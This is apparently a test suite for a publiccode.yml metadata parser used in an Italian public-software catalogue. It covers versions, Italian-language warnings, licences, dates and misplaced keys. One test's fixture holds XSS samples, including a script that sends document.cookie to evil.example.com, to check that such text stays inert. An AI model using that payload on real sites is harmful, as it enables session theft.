import { expect } from 'chai';
import { canonicalSpdx, normaliseDate } from '../../../src/modules/catalog/publiccode.js';
import { docWith, fixture, lineOf, parseOk, warningAt } from './helpers.js';

describe('parsePubliccode: well-formed files', () => {
  it('reads an old 0.2 file with the it section (riuso, conforme, piattaforme) without warnings', () => {
    const { asset, warnings } = parseOk(fixture('v02-riuso.yml'));
    expect(warnings).to.deep.equal([]);
    expect(asset.complete).to.equal(true);
    expect(asset.publiccodeYmlVersion).to.equal('0.2');
    expect(asset.name).to.equal('Protocollo Facile');
    expect(asset.url).to.equal('https://github.com/comune-esempio/protocollo');
    expect(asset.cedentIpaCode).to.equal('c_b157');
    expect(asset.organisation).to.deep.equal({ name: null, uri: 'urn:x-italian-pa:c_b157' });
    expect(asset.italianPlatforms).to.deep.equal({ spid: true, cie: true, anpr: false, pagopa: false, io: false });
    expect(asset.conformity).to.deep.equal({
      lineeGuidaDesign: true, modelloInteroperabilita: false, misureMinimeSicurezza: true, gdpr: true,
    });
    expect(asset.logo).to.deep.equal({ href: 'docs/logo-protocollo.svg', relative: true });
    expect(asset.releaseDate).to.equal('2023-11-09');
    expect(asset.categories).to.deep.equal(['document-management', 'workflow-management']);
    expect(asset.intendedAudience).to.deep.equal({ scope: ['local-authorities', 'government'], countries: ['it'], unsupportedCountries: [] });
    const it = asset.descriptions.it;
    expect(Object.keys(asset.descriptions)).to.deep.equal(['it']);
    expect(it.shortDescription).to.equal('Protocollo informatico e gestione documentale per i piccoli comuni');
    expect(it.longDescription).to.match(/^\*\*Protocollo Facile\*\* è la soluzione/);
    expect(it.features).to.deep.equal(['Protocollo informatico', 'Fascicolazione',
      'Conservazione digitale e versamento a conservatore accreditato']);
    expect(it.screenshots).to.deep.equal([
      { href: 'docs/screenshot-protocollo.png', relative: true },
      { href: 'https://raw.githubusercontent.com/comune-esempio/protocollo/main/docs/pec.png', relative: false },
    ]);
    expect(it.documentation).to.equal('https://docs.example.it/protocollo/');
    expect(asset.maintenance.type).to.equal('contract');
    expect(asset.maintenance.contractors).to.deep.equal([
      { name: 'Software Esempio S.r.l.', until: '2027-12-31', email: null, website: 'https://www.software-esempio.it' },
    ]);
    expect(asset.maintenance.contacts).to.deep.equal([
      { name: 'Maria Rossi', email: 'ced@comune.esempio.it', phone: '+390301234567', affiliation: 'Comune di Esempio' },
    ]);
    expect(asset.dependsOn.open).to.deep.equal([{ name: 'PostgreSQL', versionMin: '12', versionMax: null, version: null, optional: false }]);
    expect(asset.legal).to.deep.equal({
      license: 'EUPL-1.2', licenseIsSpdx: true, mainCopyrightOwner: 'Comune di Esempio', repoOwner: 'Comune di Esempio', authorsFile: null,
    });
    expect(asset.localisation).to.deep.equal({ localisationReady: false, availableLanguages: ['it'] });
    expect(asset.usedBy).to.deep.equal(['Comune di Esempio', 'Unione dei Comuni della Bassa']);
    expect(JSON.parse(JSON.stringify(asset))).to.deep.equal(asset);
  });

  it('reads a 0.7 file: organisation.uri, supports aliases, IT section, fundedBy', () => {
    const { asset, warnings } = parseOk(fixture('v07-complete.yml'));
    expect(warnings).to.deep.equal([]);
    expect(asset.complete).to.equal(true);
    expect(asset.cedentIpaCode).to.equal('p_bs');
    expect(asset.organisation).to.deep.equal({ name: 'Provincia di Brescia', uri: 'urn:x-italian-pa:p_bs' });
    expect(asset.italianPlatforms).to.deep.equal({ spid: true, cie: true, anpr: false, pagopa: true, io: true });
    expect(asset.conformity).to.deep.equal({
      lineeGuidaDesign: true, modelloInteroperabilita: false, misureMinimeSicurezza: true, gdpr: true,
    });
    expect(asset.supports).to.deep.equal(['alias:eidas']);
    expect(asset.fundedBy).to.deep.equal([{ name: 'Unione europea - NextGenerationEU', uri: 'https://next-generation-eu.europa.eu' }]);
    expect(Object.keys(asset.descriptions)).to.deep.equal(['it', 'en']);
    expect(asset.descriptions.it.videos).to.deep.equal(['https://www.youtube.com/watch?v=abc123']);
    expect(asset.descriptions.it.awards).to.deep.equal(['Premio PA digitale 2024']);
    expect(asset.dependsOn.hardware).to.deep.equal([{ name: 'Lettore di smart card', versionMin: null, versionMax: null, version: null, optional: true }]);
    expect(asset.roadmap).to.equal('https://github.com/cit-brescia/sportello/milestones');
    expect(asset.platforms).to.deep.equal(['web', 'android']);
    expect(asset.softwareVersion).to.equal('2.4');
  });

  it('reads CRLF files, |2 block scalars, it-IT languages and the upper-case IT section', () => {
    const text = fixture('crlf-block-scalar.yml');
    expect(text.includes('\r\n')).to.equal(true);
    const { asset, warnings } = parseOk(text);
    expect(warnings).to.deep.equal([]);
    expect(Object.keys(asset.descriptions)).to.deep.equal(['it']);
    const long = asset.descriptions.it.longDescription!;
    expect(long).to.match(/^Il sistema gestisce i procedimenti/);
    expect(long).to.include('fondi europei.\n\nEspone un front-end web');
    expect(long).not.to.include('\r');
    expect(asset.localisation.availableLanguages).to.deep.equal(['it-IT']);
    expect(asset.cedentIpaCode).to.equal('r_esempio');
    expect(asset.italianPlatforms).to.include({ spid: true, io: true, cie: false });
    expect(asset.maintenance.contractors[0].until).to.equal('2026-12-31');
  });

  it('gives CRLF files the right line numbers', () => {
    const { warnings } = parseOk('publiccodeYmlVersion: "0.4"\r\nname: X\r\nurl: https://x.example\r\n\r\nbogus: 1\r\n');
    expect(warningAt(warnings, 'bogus').line).to.equal(5);
  });

  it('keeps HTML and scripts in texts verbatim, as plain text', () => {
    const { asset, warnings } = parseOk(fixture('html-descriptions.yml'));
    expect(warnings).to.deep.equal([]);
    expect(asset.name).to.equal('<b>Nome</b> & co');
    const it = asset.descriptions.it;
    expect(it.shortDescription).to.equal("<script>alert('breve')</script>");
    expect(it.longDescription).to.equal([
      '<p onclick="alert(1)">Testo con <b>HTML</b></p>',
      "<script>document.location='https://evil.example.com/?c='+document.cookie</script>",
      'e un [collegamento](javascript:alert(2)) in markdown, che resta testo.',
    ].join('\n'));
    expect(it.features).to.deep.equal(['<img src=x onerror=alert(3)>']);
  });

  it('accepts every version from 0.2 to 0.7 and "0" silently', () => {
    for (const version of ['"0.2"', '"0.3"', '"0.4.0"', '"0.5"', '"0.6.0"', '"0.7"', '"0"']) {
      const { asset, warnings } = parseOk(docWith({ 'publiccodeYmlVersion: "0.4"': [`publiccodeYmlVersion: ${version}`] }));
      expect(warnings, version).to.deep.equal([]);
      expect(asset.publiccodeYmlVersion).to.equal(JSON.parse(version));
    }
  });
});

describe('parsePubliccode: warnings', () => {
  it('warns about a missing or unknown publiccodeYmlVersion and makes the asset incomplete', () => {
    const missing = parseOk(docWith({ 'publiccodeYmlVersion: "0.4"': [] }));
    const w = warningAt(missing.warnings, 'publiccodeYmlVersion');
    expect(w.line).to.equal(null);
    expect(w.message).to.match(/Manca la chiave obbligatoria «publiccodeYmlVersion»/);
    expect(missing.asset.publiccodeYmlVersion).to.equal(null);
    expect(missing.asset.complete).to.equal(false);
    const unknown = parseOk(docWith({ 'publiccodeYmlVersion: "0.4"': ['publiccodeYmlVersion: "1.0"'] }));
    expect(warningAt(unknown.warnings, 'publiccodeYmlVersion')).to.deep.include({ line: 1 });
    expect(warningAt(unknown.warnings, 'publiccodeYmlVersion').message).to.match(/«1\.0».*non è riconosciuta/);
    expect(unknown.asset.publiccodeYmlVersion).to.equal('1.0');
    expect(unknown.asset.complete).to.equal(false);
  });

  it('reports every missing required key of a minimal 0.2 file', () => {
    const { asset, warnings } = parseOk(fixture('minimal-0.2.yml'));
    expect(warnings.map((w) => w.path)).to.deep.equal([
      'platforms', 'categories', 'developmentStatus', 'softwareType', 'description', 'legal.license',
      'maintenance.type', 'localisation.localisationReady', 'localisation.availableLanguages',
    ]);
    expect(warnings.every((w) => w.line === null)).to.equal(true);
    expect(warningAt(warnings, 'categories').message).to.match(/richiesta dalla versione 0\.2/);
    expect(asset.complete).to.equal(false);
    expect(asset.softwareVersion).to.equal('dev');
    expect(asset.releaseDate).to.equal('2017-04-15');
    expect(asset.descriptions).to.deep.equal({});
  });

  it('does not require categories from version 0.5 on', () => {
    const { warnings, asset } = parseOk(docWith({ 'publiccodeYmlVersion: "0.4"': ['publiccodeYmlVersion: "0.5"'], 'categories:': [], '  - office': [] }));
    expect(warnings).to.deep.equal([]);
    expect(asset.complete).to.equal(true);
    const old = parseOk(docWith({ 'categories:': [], '  - office': [] }));
    expect(warningAt(old.warnings, 'categories').message).to.match(/versione 0\.4/);
  });

  it('points missing keys inside an existing section at that section', () => {
    const { warnings } = parseOk(docWith({ '  license: MIT': ['  mainCopyrightOwner: Comune'] }));
    expect(warningAt(warnings, 'legal.license')).to.deep.equal({
      path: 'legal.license', line: 19, message: 'Manca la chiave obbligatoria «legal.license».',
    });
  });

  it('reports an empty required value once, on its key line', () => {
    const { asset, warnings } = parseOk(docWith({ '    shortDescription: Una descrizione breve': ['    shortDescription: ""'],
      'softwareType: standalone/web': ['softwareType:'] }));
    expect(warningAt(warnings, 'description.it.shortDescription')).to.deep.equal({
      path: 'description.it.shortDescription', line: 12, message: 'La chiave obbligatoria «description.it.shortDescription» è vuota.',
    });
    expect(warningAt(warnings, 'softwareType').line).to.equal(9);
    expect(asset.descriptions.it.shortDescription).to.equal(null);
    expect(asset.complete).to.equal(false);
  });

  it('maps old key spellings and warns', () => {
    const text = fixture('vocabulary-and-spelling.yml');
    const { asset, warnings } = parseOk(text);
    const w = warningAt(warnings, 'landingURL');
    expect(w.line).to.equal(lineOf(text, 'landingUrl:'));
    expect(w.message).to.equal('La chiave «landingUrl» non è scritta come prevede lo standard: è stata letta come «landingURL».');
    expect(asset.landingURL).to.equal('https://github.com/CodeForBaltimore/Bmore-Responsive');
    const other = parseOk(docWith({ 'localisation:': ['localization:'], '  license: MIT': ['  licence: MIT'] }));
    expect(other.asset.localisation.availableLanguages).to.deep.equal(['it']);
    expect(other.asset.legal.license).to.equal('MIT');
    expect(warningAt(other.warnings, 'localisation').line).to.equal(23);
    expect(warningAt(other.warnings, 'legal.license').message).to.match(/«licence».*«license»/);
  });

  it('warns about unknown keys, including x- extensions, and ignores them', () => {
    const text = fixture('vocabulary-and-spelling.yml');
    const { warnings } = parseOk(text);
    expect(warningAt(warnings, 'creationDate')).to.deep.equal({
      path: 'creationDate', line: lineOf(text, 'creationDate:'),
      message: 'La chiave «creationDate» non è prevista dallo standard publiccode.yml in questa posizione: ignorata.',
    });
    expect(warningAt(warnings, 'x-generator').line).to.equal(lineOf(text, 'x-generator:'));
    const nested = parseOk(docWith({ '  license: MIT': ['  license: MIT', '  licenseUrl: https://x.example'] }));
    expect(warningAt(nested.warnings, 'legal.licenseUrl').line).to.equal(21);
    expect(nested.asset.complete).to.equal(true);
  });

  it('warns about unknown categories and scopes, drops them and fixes the letter case of known ones', () => {
    const text = fixture('vocabulary-and-spelling.yml');
    const { asset, warnings } = parseOk(text);
    expect(asset.categories).to.deep.equal(['document-management']);
    expect(warningAt(warnings, 'categories[0]')).to.deep.equal({
      path: 'categories[0]', line: lineOf(text, 'emergency-response'),
      message: '«emergency-response» non è un valore ammesso per «categories» dallo standard publiccode.yml: valore ignorato.',
    });
    expect(warningAt(warnings, 'categories[1]').message).to.match(/«Document-Management».*«document-management»/);
    expect(asset.intendedAudience.scope).to.deep.equal(['local-authorities']);
    expect(warningAt(warnings, 'intendedAudience.scope[0]').line).to.equal(lineOf(text, 'public-safety'));
  });

  it('drops invalid enumerated values with a warning and makes the asset incomplete', () => {
    const text = fixture('vocabulary-and-spelling.yml');
    const { asset, warnings } = parseOk(text);
    expect(asset.developmentStatus).to.equal(null);
    expect(warningAt(warnings, 'developmentStatus').message).to.equal(
      '«production» non è un valore ammesso per «developmentStatus» dallo standard publiccode.yml (ammessi: concept, development, beta, stable, obsolete): valore ignorato.');
    expect(asset.maintenance.type).to.equal(null);
    expect(warningAt(warnings, 'maintenance.type').line).to.equal(lineOf(text, 'commercial'));
    expect(asset.softwareType).to.equal('standalone/web');
    expect(asset.complete).to.equal(false);
  });

  it('keeps a non-SPDX licence as written, with a warning', () => {
    const text = fixture('vocabulary-and-spelling.yml');
    const { asset, warnings } = parseOk(text);
    expect(asset.legal.license).to.equal('Apache License, Version 2.0');
    expect(asset.legal.licenseIsSpdx).to.equal(false);
    expect(warningAt(warnings, 'legal.license').line).to.equal(lineOf(text, 'Apache License'));
    expect(warningAt(warnings, 'legal.license').message).to.match(/non è un'espressione SPDX valida/);
  });

  it('normalises the letter case of SPDX identifiers and accepts expressions', () => {
    const lower = parseOk(docWith({ '  license: MIT': ['  license: apache-2.0 or mit'] }));
    expect(lower.asset.legal).to.include({ license: 'Apache-2.0 OR MIT', licenseIsSpdx: true });
    expect(warningAt(lower.warnings, 'legal.license').message).to.match(/normalizzata in «Apache-2\.0 OR MIT»/);
    expect(lower.asset.complete).to.equal(true);
    for (const license of ['EUPL-1.2', 'GPL-2.0+', 'AGPL-3.0-or-later', '(MIT AND BSD-3-Clause)', 'GPL-2.0-only WITH Classpath-exception-2.0']) {
      const { asset, warnings } = parseOk(docWith({ '  license: MIT': [`  license: "${license}"`] }));
      expect(warnings, license).to.deep.equal([]);
      expect(asset.legal).to.include({ license, licenseIsSpdx: true });
    }
    expect(canonicalSpdx('gpl-3.0-only with classpath-exception-2.0')).to.equal('GPL-3.0-only WITH Classpath-exception-2.0');
    expect(canonicalSpdx('Proprietary')).to.equal(null);
  });

  it('coerces wrong types: numbers to text, single values to lists, yes/no to booleans', () => {
    const text = fixture('wrong-types.yml');
    const { asset, warnings } = parseOk(text);
    expect(asset.publiccodeYmlVersion).to.equal('0.4');
    expect(warningAt(warnings, 'publiccodeYmlVersion')).to.deep.equal({
      path: 'publiccodeYmlVersion', line: 1,
      message: 'Era atteso un testo ma è stato trovato un numero (0.4): convertito nel testo «0.4».',
    });
    expect(asset.softwareVersion).to.equal('1.10');
    expect(warningAt(warnings, 'softwareVersion').line).to.equal(lineOf(text, 'softwareVersion: 1.10'));
    expect(asset.releaseDate).to.equal('2024-05-02');
    expect(asset.platforms).to.deep.equal(['web']);
    expect(warnings.filter((w) => w.path === 'platforms')).to.deep.equal([]);
    expect(asset.categories).to.deep.equal(['taxes-management']);
    expect(warningAt(warnings, 'categories').message).to.equal(
      'Era atteso un elenco ma è stato trovato un valore singolo: convertito in un elenco di un elemento.');
    expect(asset.usedBy).to.deep.equal(['Comune di Esempio']);
    expect(warningAt(warnings, 'usedBy').line).to.equal(lineOf(text, 'usedBy:'));
    expect(asset.descriptions.it.features).to.deep.equal(['Calcolo IMU e TARI']);
    expect(warningAt(warnings, 'description.it.features').line).to.equal(lineOf(text, 'features:'));
    expect(asset.maintenance.contacts.map((c) => c.phone)).to.deep.equal(['0412501953', '+0718063851']);
    expect(warningAt(warnings, 'maintenance.contacts[0].phone').line).to.equal(lineOf(text, '0412501953'));
    expect(warningAt(warnings, 'maintenance.contacts[1].phone').message).to.match(/«\+0718063851»/);
    expect(asset.localisation.localisationReady).to.equal(true);
    expect(warningAt(warnings, 'localisation.localisationReady').message).to.equal(
      'Era atteso true o false ma è stato trovato «yes»: interpretato come true.');
    expect(asset.dependsOn.open).to.deep.equal([{ name: 'Java', versionMin: '17', versionMax: null, version: null, optional: false }]);
    expect(warningAt(warnings, 'dependsOn.open[0].optional').line).to.equal(lineOf(text, 'optional: no'));
    expect(warnings.filter((w) => w.path === 'dependsOn.open[0].versionMin')).to.deep.equal([]);
    expect(asset.complete).to.equal(true);
  });

  it('drops values of an impossible type with a warning', () => {
    const { asset, warnings } = parseOk(docWith({
      'developmentStatus: stable': ['developmentStatus: [stable, beta]'],
      '  localisationReady: false': ['  localisationReady: forse'],
    }, ['legal2: x', 'roadmap:', '  url: https://x.example']));
    expect(asset.developmentStatus).to.equal(null);
    expect(warningAt(warnings, 'developmentStatus').message).to.match(/atteso un testo.*un elenco/);
    expect(asset.localisation.localisationReady).to.equal(null);
    expect(warningAt(warnings, 'localisation.localisationReady').message).to.match(/«forse».*ignorato/);
    expect(warningAt(warnings, 'roadmap').message).to.match(/mappa di chiavi/);
    expect(asset.complete).to.equal(false);
  });

  it('wraps single objects and plain names where lists of objects are expected', () => {
    const { asset, warnings } = parseOk(docWith({
      '  type: none': ['  type: community', '  contacts:', '    - Mario Rossi', '    - name: Anna Neri'],
    }, ['dependsOn:', '  open: PostgreSQL', 'fundedBy:', '  name: Regione Lombardia']));
    expect(asset.maintenance.contacts).to.deep.equal([
      { name: 'Mario Rossi', email: null, phone: null, affiliation: null },
      { name: 'Anna Neri', email: null, phone: null, affiliation: null },
    ]);
    expect(warningAt(warnings, 'maintenance.contacts[0]').message).to.match(/usato come «name»/);
    expect(asset.dependsOn.open.map((d) => d.name)).to.deep.equal(['PostgreSQL']);
    expect(asset.fundedBy).to.deep.equal([{ name: 'Regione Lombardia', uri: null }]);
    expect(warningAt(warnings, 'fundedBy').message).to.match(/singolo oggetto/);
  });

  it('normalises unambiguous dates and drops the others', () => {
    const text = fixture('dates.yml');
    const { asset, warnings } = parseOk(text);
    expect(asset.releaseDate).to.equal('2020-01-31');
    expect(warningAt(warnings, 'releaseDate')).to.deep.equal({
      path: 'releaseDate', line: lineOf(text, 'releaseDate:'),
      message: 'La data «31/01/2020» non è nel formato AAAA-MM-GG: normalizzata in 2020-01-31.',
    });
    expect(asset.maintenance.contractors.map((c) => c.until)).to.deep.equal([
      '2020-01-31', '2019-01-05', '2021-06-30', null, null, '2026-12-31',
    ]);
    expect(warningAt(warnings, 'maintenance.contractors[0].until').line).to.equal(lineOf(text, '2020/01/31'));
    expect(warningAt(warnings, 'maintenance.contractors[1].until').message).to.match(/normalizzata in 2019-01-05/);
    expect(warningAt(warnings, 'maintenance.contractors[2].until').message).to.match(/normalizzata in 2021-06-30/);
    expect(warningAt(warnings, 'maintenance.contractors[3].until').message).to.match(/«01\/04\/2019» è ambigua/);
    expect(warningAt(warnings, 'maintenance.contractors[4].until')).to.deep.equal({
      path: 'maintenance.contractors[4].until', line: lineOf(text, '2020-02-30'),
      message: '«2020-02-30» non è una data valida (formato atteso AAAA-MM-GG): ignorata.',
    });
    expect(warnings.filter((w) => w.path === 'maintenance.contractors[5].until')).to.deep.equal([]);
    expect(asset.complete).to.equal(false);
  });

  it('normalises dates in every supported form', () => {
    expect(normaliseDate('2020-01-31')).to.deep.equal({ iso: '2020-01-31', exact: true, ambiguous: false });
    expect(normaliseDate('2020.1.31').iso).to.equal('2020-01-31');
    expect(normaliseDate('31.01.2020').iso).to.equal('2020-01-31');
    expect(normaliseDate('01/31/2020').iso).to.equal('2020-01-31');
    expect(normaliseDate('05/05/2020').iso).to.equal('2020-05-05');
    expect(normaliseDate('2020-01-31 23:59:59 -05:00').iso).to.equal('2020-01-31');
    expect(normaliseDate('03/04/2020')).to.deep.equal({ iso: null, exact: false, ambiguous: true });
    expect(normaliseDate('31/31/2020').iso).to.equal(null);
    expect(normaliseDate('ieri').iso).to.equal(null);
    const timestamp = parseOk('%YAML 1.1\n---\nname: X\nurl: https://x.example\nreleaseDate: 2020-01-31 10:00:00\n');
    expect(timestamp.asset.releaseDate).to.equal('2020-01-31');
    expect(warningAt(timestamp.warnings, 'releaseDate').line).to.equal(5);
  });

  it('moves keys found at the wrong nesting level to where they belong, saying where they were', () => {
    const text = fixture('misplaced-keys.yml');
    const { asset, warnings } = parseOk(text);
    expect(warningAt(warnings, 'legal.license')).to.deep.equal({
      path: 'legal.license', line: lineOf(text, 'license: EUPL-1.2'),
      message: '«license» si trova in «license» ma va in «legal.license»: il valore è stato usato come legal.license.',
    });
    expect(asset.legal.license).to.equal('EUPL-1.2');
    expect(warningAt(warnings, 'description.it.shortDescription').message).to.match(
      /si trova in «description\.shortDescription» ma va in «description\.it\.shortDescription»/);
    expect(asset.descriptions.it.shortDescription).to.equal("Pubblicazione degli atti all'albo pretorio online");
    expect(warningAt(warnings, 'developmentStatus').line).to.equal(lineOf(text, 'developmentStatus: stable'));
    expect(warningAt(warnings, 'developmentStatus').message).to.match(/si trova in «description\.it\.developmentStatus»/);
    expect(asset.developmentStatus).to.equal('stable');
    expect(asset.usedBy).to.deep.equal(['Comune di Esempio']);
    expect(warningAt(warnings, 'description.it.features').message).to.match(/si trova in «legal\.features»/);
    expect(asset.descriptions.it.features).to.deep.equal(['Pubblicazione degli atti', 'Archivio storico']);
    const contacts = warnings.filter((w) => w.path === 'maintenance.contacts');
    expect(contacts.map((w) => w.line)).to.deep.equal([lineOf(text, 'contacts:'), lineOf(text, 'contacts:')]);
    expect(contacts[0].message).to.match(/si trova in «contacts» ma va in «maintenance\.contacts»/);
    expect(asset.maintenance.contacts).to.deep.equal([{ name: 'Paolo Verdi', email: 'paolo.verdi@example.it', phone: null, affiliation: null }]);
    expect(asset.complete).to.equal(true);
  });

  it('keeps the value in its right place when a misplaced copy is also found', () => {
    const { asset, warnings } = parseOk(docWith({ '    shortDescription: Una descrizione breve': [
      '    shortDescription: Una descrizione breve', '    developmentStatus: obsolete'] }, ['license: GPL-3.0-only']));
    expect(asset.developmentStatus).to.equal('stable');
    expect(warningAt(warnings, 'developmentStatus')).to.deep.equal({
      path: 'developmentStatus', line: 13,
      message: '«developmentStatus» si trova in «description.it.developmentStatus» ma va in «developmentStatus», che è già presente: valore ignorato.',
    });
    expect(asset.legal.license).to.equal('MIT');
    expect(warningAt(warnings, 'legal.license').line).to.equal(28);
  });

  it('creates the missing parent section for a misplaced key', () => {
    const { asset, warnings } = parseOk(docWith({ 'legal:': [], '  license: MIT': [] }, ['license: MIT', 'localisationReady: true']));
    expect(asset.legal.license).to.equal('MIT');
    expect(warningAt(warnings, 'legal.license').line).to.equal(25);
    expect(asset.localisation.localisationReady).to.equal(false);
    expect(warningAt(warnings, 'localisation.localisationReady').message).to.match(/già presente/);
    expect(asset.complete).to.equal(true);
    const italian = parseOk(docWith({}, ['codiceIPA: c_h501', 'spid: true']));
    expect(italian.asset.cedentIpaCode).to.equal('c_h501');
    expect(italian.asset.italianPlatforms.spid).to.equal(true);
    expect(warningAt(italian.warnings, 'it.riuso.codiceIPA').line).to.equal(27);
  });

  it('warns about a shortDescription over 150 characters and keeps it', () => {
    const short = 'x'.repeat(151);
    const { asset, warnings } = parseOk(docWith({ '    shortDescription: Una descrizione breve': [`    shortDescription: ${short}`] }));
    expect(asset.descriptions.it.shortDescription).to.equal(short);
    expect(warningAt(warnings, 'description.it.shortDescription')).to.deep.include({ line: 12 });
    expect(warningAt(warnings, 'description.it.shortDescription').message).to.match(/supera i 150 caratteri.*151/);
    expect(asset.complete).to.equal(false);
    const exact = parseOk(docWith({ '    shortDescription: Una descrizione breve': [`    shortDescription: ${'à'.repeat(150)}`] }));
    expect(exact.warnings).to.deep.equal([]);
  });

  it('warns about a longDescription outside 150–10000 characters and keeps it', () => {
    const longLines = ['    longDescription: >', '      Una descrizione estesa abbastanza lunga da superare i centocinquanta',
      '      caratteri richiesti dallo standard per la descrizione estesa del software,', '      così non produce alcun avviso.'];
    const replaceLong = (value: string): string => docWith(Object.fromEntries(longLines.map((l, i) => [l, i === 0 ? [`    longDescription: ${value}`] : []])));
    const tooShort = parseOk(replaceLong('Troppo breve'));
    expect(tooShort.asset.descriptions.it.longDescription).to.equal('Troppo breve');
    expect(warningAt(tooShort.warnings, 'description.it.longDescription')).to.deep.equal({
      path: 'description.it.longDescription', line: 13,
      message: 'La descrizione estesa deve avere tra 150 e 10000 caratteri (ne ha 12): conservata.',
    });
    expect(tooShort.asset.complete).to.equal(false);
    const tooLong = parseOk(replaceLong('y'.repeat(10001)));
    expect(tooLong.asset.descriptions.it.longDescription).to.have.length(10001);
    expect(warningAt(tooLong.warnings, 'description.it.longDescription').message).to.match(/ne ha 10001/);
    expect(parseOk(replaceLong('z'.repeat(150))).warnings).to.deep.equal([]);
  });

  it('normalises description languages and merges sections of the same language', () => {
    const { asset, warnings } = parseOk(docWith({
      '  it:': ['  IT-it:'],
      '      - Una funzionalità': ['      - Una funzionalità', '  en-GB:', '    shortDescription: A short description',
        '  en-US:', '    shortDescription: Another', '    features:', '      - One', '  not a language:', '    features: []'],
    }));
    expect(Object.keys(asset.descriptions)).to.deep.equal(['it', 'en']);
    expect(asset.descriptions.it.shortDescription).to.equal('Una descrizione breve');
    expect(asset.descriptions.en.shortDescription).to.equal('A short description');
    expect(asset.descriptions.en.features).to.deep.equal(['One']);
    expect(warningAt(warnings, 'description.en')).to.deep.equal({
      path: 'description.en', line: 21,
      message: 'Una seconda sezione «en-US» è in lingua «en»: le due sezioni sono state unite.',
    });
    expect(warningAt(warnings, 'description.en.shortDescription').line).to.equal(22);
    expect(warningAt(warnings, 'description.not a language').message).to.match(/non è un codice di lingua valido/);
    expect(warnings).to.have.length(3);
  });

  it('reports duplicated keys and keeps the last one', () => {
    const { asset, warnings } = parseOk(docWith({}, ['softwareType: library']));
    expect(asset.softwareType).to.equal('library');
    expect(warningAt(warnings, 'softwareType')).to.deep.equal({
      path: 'softwareType', line: 27, message: "La chiave «softwareType» compare più volte: vale l'ultima occorrenza.",
    });
  });

  it('checks the maintenance rules: contractors with contract, contacts with internal and community', () => {
    const contract = parseOk(docWith({ '  type: none': ['  type: contract'] }));
    expect(warningAt(contract.warnings, 'maintenance.contractors')).to.deep.include({ line: 21 });
    expect(contract.asset.complete).to.equal(false);
    const internal = parseOk(docWith({ '  type: none': ['  type: internal'] }));
    expect(warningAt(internal.warnings, 'maintenance.contacts').message).to.match(/obbligatoria quando maintenance\.type è «internal»/);
    const extra = parseOk(docWith({ '  type: none': ['  type: community', '  contacts:', '    - name: A',
      '  contractors:', '    - name: B', '      until: "2030-01-01"'] }));
    expect(warningAt(extra.warnings, 'maintenance.contractors').message).to.match(/solo quando maintenance\.type è «contract»/);
    expect(extra.asset.complete).to.equal(false);
    const noName = parseOk(docWith({ '  type: none': ['  type: community', '  contacts:', '    - email: a@b.example'] }));
    expect(warningAt(noName.warnings, 'maintenance.contacts[0].name')).to.deep.include({ line: 24 });
    expect(noName.asset.maintenance.contacts).to.deep.equal([]);
  });

  it('drops invalid emails, country codes and language tags with a warning', () => {
    const { asset, warnings } = parseOk(docWith({
      '  type: none': ['  type: community', '  contacts:', '    - name: A', '      email: non-una-email'],
      '    - it': ['    - it', '    - "italiano!"'],
    }, ['intendedAudience:', '  countries:', '    - IT', '    - Italia']));
    expect(asset.maintenance.contacts[0].email).to.equal(null);
    expect(warningAt(warnings, 'maintenance.contacts[0].email').line).to.equal(25);
    expect(asset.localisation.availableLanguages).to.deep.equal(['it']);
    expect(warningAt(warnings, 'localisation.availableLanguages[1]').line).to.equal(30);
    expect(asset.intendedAudience.countries).to.deep.equal(['it']);
    expect(warningAt(warnings, 'intendedAudience.countries[1]').line).to.equal(34);
  });

  it('takes the IPA code from organisation.uri first and warns on a conflicting it.riuso.codiceIPA', () => {
    const { asset, warnings } = parseOk(docWith({}, ['organisation:', '  uri: urn:x-italian-pa:C_H501', 'it:', '  riuso:', '    codiceIPA: c_b157']));
    expect(asset.cedentIpaCode).to.equal('c_h501');
    expect(asset.organisation.uri).to.equal('urn:x-italian-pa:c_h501');
    expect(warningAt(warnings, 'it.riuso.codiceIPA')).to.deep.equal({
      path: 'it.riuso.codiceIPA', line: 31,
      message: 'Il codice IPA «c_b157» è diverso da quello indicato in organisation.uri («c_h501»): vale il primo.',
    });
    const other = parseOk(docWith({}, ['organisation:', '  uri: https://www.comune.esempio.it', '  name: Comune']));
    expect(other.asset.cedentIpaCode).to.equal(null);
    expect(other.asset.organisation).to.deep.equal({ name: 'Comune', uri: 'https://www.comune.esempio.it' });
  });

  it('reads 0.7 supports, drops unknown aliases and keeps other standards', () => {
    const { asset, warnings } = parseOk(docWith({}, ['supports:', '  - id: alias:pagopa', '  - id: ALIAS:Anpr',
      '  - id: alias:nis2', '  - id: alias:boh', '  - id: https://eur-lex.europa.eu/eli/reg/2016/679/oj']));
    expect(asset.italianPlatforms).to.deep.equal({ spid: false, cie: false, anpr: true, pagopa: true, io: false });
    expect(asset.supports).to.deep.equal(['alias:nis2', 'https://eur-lex.europa.eu/eli/reg/2016/679/oj']);
    expect(warningAt(warnings, 'supports[3].id')).to.deep.include({ line: 31 });
  });

  it('reports warnings in line order', () => {
    const { warnings } = parseOk(fixture('wrong-types.yml'));
    const lines = warnings.map((w) => w.line ?? Infinity);
    expect(lines).to.deep.equal([...lines].sort((a, b) => a - b));
  });
});
